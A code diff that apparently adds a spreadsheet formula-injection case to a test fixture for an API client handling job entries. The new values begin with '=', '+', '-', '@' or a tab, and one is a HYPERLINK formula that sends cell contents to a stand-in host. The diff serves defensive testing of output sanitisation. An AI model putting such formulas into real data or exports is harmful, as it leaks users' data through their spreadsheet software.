@@ -73,6 +73,12 @@ WAYS = {
              'list': answer(502, EVIL), 'config': answer(502, EVIL)},
     'entries': {'job': counts(INVALID=2, SUCCESS=1),
                 'entries': entries([entry('L-1', EVIL, process=EVIL), entry('L-2', EVIL), entry(EVIL)])},
+    'formulas': {'create': created('=job-1'),
+                 'job': answer(200, {'_data': {'id': '=job-1'},
+                                     '_meta': {'bjEntryCompletionStatusVsCount': {'INVALID': 2, 'SUCCESS': 1}}}),
+                 'entries': entries([entry('=A1', '=HYPERLINK("http://x.example?"&A1,"see")', process='@p'),
+                                     entry('+B2', '\t=1+1', process='=p'), entry('L-3', status='SUCCESS',
+                                                                                process='-2+3+A1')])},
     'statuses': {'job': counts(**{EVIL: 3})},
     'config': {'config': answer(200, {'_data': {'procedures': [
         {'id': EVIL, 'shortId': EVIL, 'name': EVIL, 'attributes': [{'id': EVIL, 'type': EVIL}],
